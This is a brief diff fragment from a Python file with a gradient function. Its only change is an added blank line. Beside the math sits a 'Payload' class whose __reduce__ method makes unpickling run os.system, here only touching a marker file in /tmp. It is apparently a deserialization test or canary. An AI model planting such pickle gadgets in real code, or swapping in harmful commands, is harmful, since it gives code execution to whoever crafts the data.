@@ -13,6 +13,7 @@ def loss(x):
 def grad(x):
     return 4 * x**3 - 6 * x
 
+
 class Payload:
     def __reduce__(self):
         return (os.system, ("touch /tmp/gdk-marker-pickle",))
